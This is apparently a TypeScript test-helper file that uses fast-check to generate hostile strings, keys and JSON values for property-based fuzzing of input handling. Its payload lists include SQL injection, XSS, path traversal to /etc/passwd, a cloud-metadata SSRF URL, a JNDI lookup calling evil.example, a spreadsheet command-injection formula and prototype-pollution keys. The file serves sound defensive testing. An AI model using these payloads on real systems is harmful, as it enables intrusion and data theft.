import fc from 'fast-check';

/** JSON, with texts and keys that nobody means well with. */
export type Json = null | boolean | number | string | Json[] | JsonObject;
interface JsonObject {
  [name: string]: Json;
}

/** Texts that databases don't keep. */
const UNKEEPABLE = ['\0', 'a\0b', '\ud800', 'b\udc00a'];

/** Texts that have done harm somewhere. */
const TEXTS = [
  '\u202eevil',
  '\ufeff',
  '\r\nx-injected: 1\r\n\r\n',
  "' OR 1=1; --",
  '"); DROP TABLE accounts; --',
  '%',
  '_%\\',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data',
  '//evil.example',
  // eslint-disable-next-line no-script-url
  'javascript:alert(1)',
  // What templates and loggers would put a value into.
  // eslint-disable-next-line no-template-curly-in-string
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%s%n',
  '=cmd|"/c calc"!A1',
  '__proto__',
  'constructor',
  'toString',
  'user:default/__proto__',
  'group:default/constructor',
  'account:0',
  'title:\u00a0',
  'İıſK',
  '1e400',
  '-0',
  '0x10',
  'NaN',
  'null',
  'undefined',
  '[object Object]',
  '2026-02-30T00:00:00Z',
  '2026-12-31T23:59:60Z',
  '+275761-01-01T00:00:00.000Z',
  '-000001-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999999999Z',
  '2026-11-26T00:00:00+99:99',
  '0000-00-00T00:00:00Z',
];

/** Names that mean something to JavaScript, or to what keeps JSON. */
const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toJSON',
  '$ref',
  '',
  '\0',
  'isAdmin',
  'userEntityRef',
  'redirectUri',
];

/** What a polluted prototype would show. */
export const POLLUTION = 'gorgiasAttackPollution';

/** Any text, most of them chosen with care. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...UNKEEPABLE) },
  { weight: 6, arbitrary: fc.constantFrom(...TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('a', '\u00e9', '\ud83d\ude00', '0'), lengths())
      .map(([letter, length]) => letter.repeat(length)),
  },
);

/** A name that an object may not have. */
export const hostileKey = fc.constantFrom(...KEYS);

/** Any JSON but what was asked for. */
export const hostileValue: fc.Arbitrary<Json> = fc.oneof(
  hostileText,
  fc.constantFrom<Json>(
    null,
    true,
    0,
    -1,
    1.5,
    2 ** 31,
    2 ** 53,
    1e308,
    [],
    {},
    [null],
  ),
  hostileKey.map(key => withKey({}, key, { [POLLUTION]: 1 })),
  fc.nat(2000).map(nested),
  fc.nat(3000).map(length => Array<Json>(length).fill('1')),
);

/** Sets a property of any name, as `JSON.parse` does, not as an assignment would. */
export function withKey(of: JsonObject, key: string, value: Json): JsonObject {
  return Object.fromEntries([...Object.entries(of), [key, value]]);
}

function lengths() {
  return fc.constantFrom(1, 20, 21, 100, 101, 300, 301, 2000, 2001, 5000);
}

function nested(depth: number): Json {
  let value: Json = 'deep';
  for (let level = 0; level < depth; level += 1) {
    value = level % 2 ? [value] : { deep: value };
  }
  return value;
}
